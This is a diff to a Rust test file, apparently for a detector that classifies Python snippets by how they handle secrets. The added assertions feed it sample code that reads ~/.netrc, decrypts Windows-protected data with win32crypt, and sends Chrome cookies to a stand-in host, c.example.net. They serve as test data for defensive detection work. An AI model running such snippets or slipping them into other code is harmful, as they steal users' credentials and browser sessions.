@@ -83,6 +83,16 @@ fn secrets_sent_from_a_script() {
     // Halves.
     assert_eq!(py("open(os.path.expanduser('~/.netrc')).read()"), [R]);
     assert_eq!(
+        py("import win32crypt\npw = win32crypt.CryptUnprotectData(blob)[1]\n"),
+        [R]
+    );
+    assert_eq!(
+        py(
+            "import browser_cookie3, requests\nrequests.post('https://c.example.net/k', data=str(list(browser_cookie3.chrome())))\n"
+        ),
+        [X]
+    );
+    assert_eq!(
         py("requests.post('https://abc.webhook.site/', json=summary)"),
         [S]
     );
